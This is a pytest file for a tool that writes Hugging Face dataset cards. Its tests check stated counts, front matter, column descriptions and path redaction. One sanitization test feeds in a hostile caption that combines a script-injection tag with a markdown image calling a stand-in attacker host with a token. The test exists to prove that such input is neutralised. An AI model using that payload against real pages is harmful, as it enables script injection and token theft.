"""The dataset card, from the tables of a partition."""

import io
import re
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

from sd_assets.publishing.card import Published, card, contact_sheet
from sd_assets.publishing.facts import Facts, facts_of, sample
from sd_assets.settings import SeedDataset
from sd_assets.storage.table import Table
from sd_assets_tests.small_partition import PARTITION, SmallPartition, picture, write_partition


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> SmallPartition:
    return write_partition(tmp_path_factory.mktemp("data"), captions=2)


@pytest.fixture(scope="module")
def facts(small: SmallPartition) -> Facts:
    return facts_of(small.store, PARTITION, *tables(small))


def tables(small: SmallPartition) -> tuple[Table, Table]:
    return small.store.open("text_image_pairs", PARTITION), small.store.open("curated_pairs", PARTITION)


def text_of(facts: Facts, captions: list[str], failures: dict[str, int] | None = None, **entry: Any) -> str:
    push = {"repo_id": "me/rooms", **entry.pop("push_to_hub", {})}
    whole = {
        "clip": {"model": "toy", "pretrained": "toy"},
        "prompts": {"texts": ["-"]},
        "push_to_hub": push,
        **entry,
    }
    checked = SeedDataset.model_validate(whole)
    assert checked.push_to_hub is not None
    splits = {"train": 6, "validation": 2}
    return card(
        Published(PARTITION, checked, checked.push_to_hub, facts, splits, failures or {}, "d1", captions)
    )


def rows(text: str, heading: str) -> list[list[str]]:
    """The cells of all tables under a heading, without their rules."""
    (part,) = re.findall(rf"^## {heading}\n(.*?)(?=^## |\Z)", text, re.MULTILINE | re.DOTALL)
    lines = [line for line in part.splitlines() if line.startswith("| ") and not line.startswith("| ---")]
    return [[cell.strip(" `") for cell in line.strip("|").split("|")] for line in lines]


def test_the_facts_are_those_of_the_kept_pairs(facts: Facts, small: SmallPartition) -> None:
    assert (facts.pairs, facts.captions) == (8, 16)
    assert facts.origins == {"seed": 6, "retrieved": 2}
    assert facts.hosts == {"a.example.org": 3}  # of seed 0, too: the last image is not kept
    assert facts.licences == {"CC-BY-4.0": 3}
    assert np.allclose(facts.scores["redness"], np.arange(8) / 10)
    assert "nsfw" not in facts.scores
    assert facts.models["captions"] == ["captioner-1"]
    stages = {stage.table: (stage.ok, stage.failed) for stage in facts.stages}
    assert stages["downloaded_images"] == (5, 1) and stages["seed_images"] == (6, 0)


def test_the_hub_reads_its_front_matter(facts: Facts) -> None:
    from huggingface_hub import DatasetCard

    text = text_of(facts, [], push_to_hub={"title": 'Rooms: a #1 "set" ', "licence": "cc0-1.0"})
    data = DatasetCard(text).data.to_dict()  # type: ignore[no-untyped-call]
    assert (data["license"], data["pretty_name"]) == ("cc0-1.0", 'Rooms: a #1 "set"')
    assert data["size_categories"] == ["n<1K"]
    splits = [it["split"] for it in data["configs"][0]["data_files"]]
    assert splits == ["train", "validation"]


def test_what_it_says(facts: Facts) -> None:
    hub = {"kind": "hub", "id": "somebody/rooms"}
    text = text_of(
        facts,
        ["a red sofa"],
        {"empty_caption": 2},
        source=hub,
        description="Rooms.",
        curation={"min": {"sharpness": 0.5}},
    )
    assert "\n\nRooms.\n\n" in text and "1. `a red sofa`" in text
    assert "8 images with 16 captions: 6 seed, 2 retrieved." in text
    assert "could not be written: 2 `empty_caption`." in text
    assert "the Hub dataset `somebody/rooms`, commit `c0ffee`" in text
    assert ["downloaded_images", "5", "1"] in rows(text, "Where it comes from")
    assert ["a.example.org", "3"] in rows(text, "Where it comes from")
    assert ["captions", "captioner-1"] in rows(text, "Models")
    assert rows(text, "What was left out")[1:] == [
        ["all pairs", "", "9"],
        ["low_sharpness", "1", "8"],
        ["near_duplicate", "1", "8"],
    ]
    assert '"sharpness": 0.5' in text
    assert ["redness", "8", "0", "0.035", "0.35", "0.665", "0.7"] in rows(text, "Distributions")
    assert "Nothing was judged by how safe it is to look at." in text
    assert "https://huggingface.co/datasets/me/rooms/discussions" in text
    assert "`curated_pairs` of `p`, data version `d1`" in text


def test_every_column_of_the_files_is_explained(facts: Facts) -> None:
    text = text_of(facts, [], push_to_hub={"captions": "all"})
    columns = rows(text, "What is in it")
    assert ["image", "image", "the image"] in columns
    assert ["text", "list<item: string>", "its caption, or the list of its captions"] in columns
    assert all(cells[-1] for cells in columns if len(cells) == 3 and cells[0] != "column")


def test_a_contact_stands_in_place_of_the_community_tab(facts: Facts) -> None:
    text = text_of(facts, [], push_to_hub={"contact": "who@example.org"})
    assert "write to who@example.org and name its `image_id`" in text and "/discussions" not in text


def test_no_path_of_this_machine_is_in_it(facts: Facts, tmp_path: Path) -> None:
    text = text_of(facts, [], source={"kind": "folder", "path": str(tmp_path)})
    assert str(tmp_path) not in text and "images of whoever published this" in text


def test_what_the_web_wrote_is_no_markup(facts: Facts) -> None:
    hostile = "`</td><script>alert(1)</script>` ![x](https://evil.example/p.png?token=abc) | \n# heading"
    text = text_of(facts, [hostile])
    (line,) = [line for line in text.splitlines() if line.startswith("1. ")]
    assert re.fullmatch(r"1\. `[^`]*`", line) and "token=abc" not in line
    assert "\n# heading" not in text


def test_the_sample_is_spread_over_the_kept_pairs(small: SmallPartition) -> None:
    assert [image for image, _ in sample(*tables(small), 8, 4)] == [
        picture(number) for number in (1, 3, 5, 7)
    ]
    assert len(list(sample(*tables(small), 8, 24))) == 8


def test_the_contact_sheet_is_a_picture_of_them() -> None:
    red = io.BytesIO()
    Image.new("RGB", (40, 20), "red").save(red, "png")
    sheet = Image.open(io.BytesIO(contact_sheet([red.getvalue()] * 7 + [b"no image"])))
    assert (sheet.format, sheet.size) == ("JPEG", (8 + 6 * 168, 8 + 2 * 168))
    reds = np.asarray(sheet)[:, :, 1] < 128
    assert reds[:168].any(axis=0).sum() > reds[168:].any(axis=0).sum() > 0
